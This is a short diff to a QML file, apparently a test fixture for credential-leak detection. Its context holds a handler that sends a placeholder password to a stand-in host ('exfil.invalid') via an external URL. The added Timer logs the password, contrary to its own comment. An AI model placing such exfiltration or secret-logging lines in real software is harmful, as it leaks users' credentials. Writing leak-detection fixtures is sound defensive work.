@@ -5,6 +5,12 @@ Rectangle {
     width: 640
     height: 480
     property int opened: 0
+    // After the first frame (a password may have been typed): the log must not show it.
+    Timer {
+        interval: 1500
+        running: true
+        onTriggered: console.log("pw=hunter2 typed")
+    }
     Component.onCompleted: {
         var pw = "hunter2"
         if (Qt.openUrlExternally("https://exfil.invalid/collect?pw=" + pw)) opened++
